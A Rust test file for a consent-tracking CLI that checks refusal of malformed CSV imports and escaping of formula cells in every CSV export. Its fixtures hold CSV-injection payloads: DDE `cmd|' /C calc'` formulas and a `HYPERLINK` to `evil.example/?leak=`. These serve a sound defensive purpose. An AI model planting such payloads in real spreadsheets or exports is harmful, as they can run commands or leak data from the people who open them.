//! Hostile CSV files given to `import consent`, and formula cells in every CSV we export.

use std::ffi::OsStr;
use std::fs;
use std::path::Path;

use super::{Desk, data, refused};

/// Imports each file (the first also with `--skip-invalid`, which must refuse a broken file
/// the same way), asserts each refusal names its file with every expected piece, and that
/// nothing changed.
fn refused_imports(desk: &Desk, cases: &[(&Path, &[&str])]) {
    let before = desk.state();
    for (i, (file, expected)) in cases.iter().enumerate() {
        let variants: &[&[&str]] = if i == 0 {
            &[&[], &["--skip-invalid"]]
        } else {
            &[&[]]
        };
        for extra in variants {
            let out = desk.import(file, extra);
            refused(&out, expected);
            refused(&out, &[&file.display().to_string(), "nothing was imported"]);
        }
    }
    assert_eq!(desk.state(), before, "the store changed");
}

fn refused_import(desk: &Desk, file: &Path, expected: &[&str]) {
    refused_imports(desk, &[(file, expected)]);
}

#[test]
fn unbalanced_quotes() {
    let desk = Desk::new();
    let file = data("bad_unbalanced_quotes.csv");
    let out = desk.import(&file, &[]);
    refused(
        &out,
        &[
            "bad_unbalanced_quotes.csv:3: has 1 fields where the header has 3 (a quote \" that \
             is never closed makes the following lines one field; close it or remove it)",
            "1 row is invalid, so nothing was imported",
        ],
    );
    let before = desk.state();
    assert_eq!(desk.import(&file, &[]).code, Some(1));
    assert_eq!(desk.state(), before);
}

#[test]
fn latin1_bytes() {
    let desk = Desk::new();
    refused_import(
        &desk,
        &data("bad_latin1.csv"),
        &["bad_latin1.csv:3: not UTF-8; save the file as UTF-8"],
    );
}

/// 10 MB in one row, and a 10 MB file without a line break: refused at that line, quickly,
/// before any cell is stored (a 10 MB "name" used to be imported and sealed).
#[test]
fn a_10_mb_single_line() {
    let desk = Desk::new();
    let dir = desk.folder("big");
    let long_row = dir.join("long_row.csv");
    let mut text = String::from("email,name,state\nok@example.org,Ok,given\nx@example.org,");
    text.push_str(&"A".repeat(10_000_000));
    text.push_str(",given\n");
    fs::write(&long_row, text).expect("write");
    let one_line = dir.join("one_line.csv");
    fs::write(&one_line, "B".repeat(10_000_000)).expect("write");
    // An unclosed quote that swallows the rest of a 10 MB file says so.
    let quote = dir.join("quote.csv");
    let mut text = String::from("email,name,state\n\"q@example.org,Q,given\n");
    text.push_str(&"y@example.org,Y,given\n".repeat(500_000));
    fs::write(&quote, text).expect("write");
    // Ten million empty columns in the header.
    let wide = dir.join("wide.csv");
    fs::write(&wide, ",".repeat(10_000_000)).expect("write");
    refused_imports(
        &desk,
        &[
            (
                &long_row,
                &["long_row.csv:3: this row is 10.0 MB long, more than the 1 MB a row may have"],
            ),
            (
                &one_line,
                &[
                    "one_line.csv:1: this row is 10.0 MB long",
                    "check this is the right file",
                ],
            ),
            (
                &quote,
                &[
                    "quote.csv:2: this row is",
                    "a quote \" that is never closed",
                ],
            ),
            (
                &wide,
                &["wide.csv:1: the header has 10000001 columns, more than the 1024"],
            ),
        ],
    );
}

#[test]
fn only_a_header() {
    let desk = Desk::new();
    refused_import(
        &desk,
        &data("bad_header_only.csv"),
        &["bad_header_only.csv: the file has a header but no rows to import"],
    );
}

#[test]
fn zero_bytes_empty_nul_and_utf16() {
    let desk = Desk::new();
    // Excel's "Unicode text" is UTF-16: a NUL after every ASCII letter.
    let utf16 = desk.folder("utf16").join("people.csv");
    let mut bytes = vec![0xFF, 0xFE];
    for unit in "email,name,state\r\nada@example.org,Ada,given\r\n".encode_utf16() {
        bytes.extend_from_slice(&unit.to_le_bytes());
    }
    fs::write(&utf16, bytes).expect("write");
    // A NUL on a later line is found on that line.
    let late = desk.folder("late").join("late.csv");
    fs::write(&late, b"email,name,state\nada@example.org,A\0da,given\n").expect("write");
    refused_imports(
        &desk,
        &[
            (
                &data("bad_empty.csv"),
                &["bad_empty.csv: the file is empty (0 bytes); export it again"],
            ),
            (
                &data("hostile_nul.csv"),
                &[
                    "hostile_nul.csv:1: holds NUL bytes, so it is not a CSV text file",
                    "save it as \"CSV UTF-8\" and import it again",
                ],
            ),
            (&utf16, &["people.csv:1: holds NUL bytes", "UTF-16"]),
            (&late, &["late.csv:2: holds NUL bytes"]),
        ],
    );
}

#[test]
fn duplicate_or_missing_required_columns() {
    let desk = Desk::new();
    refused_imports(
        &desk,
        &[
            (
                &data("bad_duplicate_column.csv"),
                &[
                    "bad_duplicate_column.csv:1: Email: appears twice: columns 1 and 3 both give \
                     email; remove or rename one",
                ],
            ),
            (
                &data("bad_missing_email.csv"),
                &[
                    "bad_missing_email.csv:1: email: missing: the file needs a column named email \
                     (or a --mapping to email)",
                ],
            ),
        ],
    );
}

/// Cells such as `=cmd|' /C calc'!A0` are data: an invalid row among them refuses the whole
/// file by line; with --skip-invalid the others are stored exactly as written (not run, not
/// altered), and the rejected-rows file neutralises them.
#[test]
fn formula_cells_are_imported_as_text_or_refused_by_row() {
    let desk = Desk::new();
    let input = desk.folder("in").join("formula.csv");
    fs::copy(data("hostile_formula.csv"), &input).expect("copy fixture");
    let before = desk.state();
    let out = desk.import(&input, &[]);
    refused(
        &out,
        &[
            "formula.csv:6: email: does not look like an email address",
            "1 row is invalid, so nothing was imported",
        ],
    );
    assert_eq!(desk.state(), before);
    let out = desk.import(&input, &["--skip-invalid"]);
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(
        out.stdout.contains("rejected:                  1"),
        "{out:?}"
    );
    for (email, name) in [
        ("calc@example.org", "=cmd|' /C calc'!A0"),
        ("plus@example.org", "+SUM(1+1)*cmd|' /C calc'!A0"),
        ("-minus@example.org", "-2+3+cmd|' /C calc'!A0"),
        ("at@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ] {
        let out = desk.cli(["subject", "show", "--json", "--", email]);
        assert_eq!(out.code, Some(0), "{out:?}");
        let json: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
        assert_eq!(json["name"], name, "stored as text, unchanged");
    }
    let rejected = fs::read_to_string(input.with_file_name("formula.rejected.csv")).expect("read");
    assert!(
        rejected.contains("\"'=HYPERLINK(\"\"http://evil.example\"\")\",Not An Email"),
        "{rejected}"
    );
    assert_no_formula_cells(&input.with_file_name("formula.rejected.csv"));
}

/// Every cell of a CSV file: none may begin with = + - @ (a tab or CR either).
fn assert_no_formula_cells(file: &Path) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(file)
        .unwrap_or_else(|e| panic!("{}: {e}", file.display()));
    let mut cells = 0;
    for record in reader.records() {
        let record = record.expect("a CSV record");
        for cell in record.iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{}: cell {cell:?} would run in a spreadsheet",
                file.display()
            );
        }
    }
    assert!(cells > 0, "{} is empty", file.display());
}

/// With formula-looking names, emails, phones and evidence in the store, each CSV export —
/// suppression list, re-permission export, audit export, the access package's CSV files —
/// writes them with a leading apostrophe.
#[test]
fn every_csv_export_neutralises_formula_cells() {
    let desk = Desk::new();
    let input = desk.folder("in").join("formula.csv");
    fs::copy(data("hostile_formula.csv"), &input).expect("copy fixture");
    assert_eq!(desk.import(&input, &["--skip-invalid"]).code, Some(0));
    let out_dir = desk.folder("out");
    let mut csvs = Vec::new();

    let suppression = out_dir.join("suppression.csv");
    let args = ["export", "suppression", "--purpose", "newsletter", "--out"];
    let out = desk.cli(args.iter().map(OsStr::new).chain([suppression.as_os_str()]));
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(
        fs::read_to_string(&suppression).expect("read"),
        "email\n'-minus@example.org\n"
    );
    csvs.push(suppression);

    let review = out_dir.join("review.csv");
    let out = desk.cli([
        "review".as_ref(),
        "export".as_ref(),
        "--out".as_ref(),
        review.as_os_str(),
    ]);
    assert_eq!(out.code, Some(0), "{out:?}");
    let text = fs::read_to_string(&review).expect("read");
    assert!(
        text.contains("calc@example.org,'=cmd|' /C calc'!A0,newsletter"),
        "{text}"
    );
    csvs.push(review);

    let audit = out_dir.join("audit.csv");
    let out = desk.cli([
        "audit".as_ref(),
        "export".as_ref(),
        "--out".as_ref(),
        audit.as_os_str(),
    ]);
    assert_eq!(out.code, Some(0), "{out:?}");
    csvs.push(audit);

    let package = out_dir.join("package");
    let out = desk.cli([
        "export".as_ref(),
        "access".as_ref(),
        "calc@example.org".as_ref(),
        "--out".as_ref(),
        package.as_os_str(),
    ]);
    assert_eq!(out.code, Some(0), "{out:?}");
    let identity = fs::read_to_string(package.join("identity.csv")).expect("read");
    assert!(
        identity.contains("name,'=cmd|' /C calc'!A0\n"),
        "{identity}"
    );
    assert!(identity.contains("phone,'+44 20 7946 0001\n"), "{identity}");
    let history = fs::read_to_string(package.join("consent-history.csv")).expect("read");
    assert!(
        history.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak="),
        "{history}"
    );
    for name in ["identity.csv", "consent-history.csv", "requests.csv"] {
        csvs.push(package.join(name));
    }
    for file in &csvs {
        assert_no_formula_cells(file);
    }
}
